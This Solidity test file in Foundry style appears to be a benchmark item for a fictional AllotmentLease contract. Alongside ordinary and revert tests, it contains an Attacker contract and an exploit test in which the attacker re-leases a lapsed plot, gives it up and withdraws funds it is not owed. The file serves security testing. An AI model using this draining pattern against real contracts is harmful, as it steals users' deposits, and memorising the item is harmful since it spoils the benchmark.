pragma solidity 0.5.17;

import "./AllotmentLease.sol";

// assay-canary-58cf39cf-c266-4001-8c51-65f16d74f1f3

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant OFFICE = address(0x0FF1);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    uint256 private constant START = 1600000000;

    AllotmentLease private office;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.prank(OFFICE);
        office = new AllotmentLease(0.1 ether);
        vm.deal(ANA, 10 ether);
        vm.deal(BEN, 10 ether);
        vm.prank(ANA);
        office.lease.value(3.1 ether)(7);
        vm.prank(BEN);
        office.lease.value(2.1 ether)(8);
        vm.warp(START + 200 days);
        vm.prank(BEN);
        office.payRent.value(0.1 ether)(8);
        vm.warp(START + 400 days);
        mallory = new Attacker(office);
        vm.deal(address(mallory), 1 ether);
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        require(office.lease.value(0.5 ether)(9) == 0.4 ether, "a new one");
        office.payRent.value(0.1 ether)(9);
        office.giveUp(9);
        office.giveUp(8);
        require(office.withdraw() == 2.4 ether, "both deposits");
        vm.stopPrank();
        vm.prank(ANA);
        office.lease.value(0.3 ether)(8);
        (address tenant, uint256 deposit, uint256 until) = office.plots(8);
        require(tenant == ANA && deposit == 0.2 ether && until == START + 765 days, "leased again");
        vm.prank(OFFICE);
        require(office.withdraw() == 0.6 ether, "rents");
        vm.warp(START + 500 days);
        vm.prank(ANA);
        office.giveUp(7);
        vm.prank(ANA);
        require(office.withdraw() == 3 ether, "a lapsed one too");
        require(address(office).balance == 0.2 ether, "one deposit is left");
    }

    function test_RefusesLeases() public {
        vm.startPrank(ANA);
        vm.expectRevert("there is no such plot");
        office.lease.value(1 ether)(40);
        vm.expectRevert("a deposit is at least one rent");
        office.lease.value(0.19 ether)(7);
        vm.expectRevert("the plot is leased");
        office.lease.value(1 ether)(8);
        vm.stopPrank();
        vm.expectRevert("the rent must not be zero");
        new AllotmentLease(0);
    }

    function test_RefusesTheRest() public {
        vm.startPrank(ANA);
        vm.expectRevert("the lease has ended");
        office.payRent.value(0.1 ether)(7);
        vm.expectRevert("the rent is another one");
        office.payRent.value(0.2 ether)(8);
        vm.expectRevert("the plot is not yours");
        office.giveUp(8);
        vm.expectRevert("nothing is credited");
        office.withdraw();
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 3.8 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(office);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    AllotmentLease private office;

    constructor(AllotmentLease o) public {
        office = o;
    }

    function() external payable {}

    function run() external {
        office.lease.value(1 ether)(7);
        office.giveUp(7);
        office.withdraw();
    }
}
